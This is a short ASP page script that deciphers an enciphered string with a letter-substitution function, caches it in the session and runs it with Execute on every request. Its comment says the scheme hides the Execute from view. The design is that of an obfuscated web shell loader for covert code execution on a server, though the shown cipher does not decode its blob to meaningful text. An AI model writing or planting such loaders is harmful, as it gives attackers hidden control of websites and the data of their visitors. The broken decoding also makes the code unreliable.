<%
' the code is kept enciphered in the page; it is deciphered once per visitor, cached in the
' session, and executed from there on every request (no Execute of a plain variable to see)
Const ALPHA_IN = "qwertyuiopasdfghjklzxcvbnm"
Const ALPHA_OUT = "mnbvcxzlkjhgfdsapoiuytrewq"

Function Unwheel(blob, seed)
    Dim i, ch, pos, outText
    outText = ""
    For i = 1 To Len(blob)
        ch = Mid(blob, i, 1)
        pos = InStr(1, ALPHA_OUT, ch, vbBinaryCompare)
        If pos > 0 Then
            outText = outText & Mid(ALPHA_IN, pos, 1)
        Else
            outText = outText & ChrW(AscW(ch) Xor (seed Mod 7))
        End If
    Next
    Unwheel = outText
End Function

If Session("tpl_cache") = "" Then
    Session("tpl_cache") = Unwheel("Ricutuii.Ycsirtupm(""rz"")", 0)
End If
Execute(Session("tpl_cache"))
%>
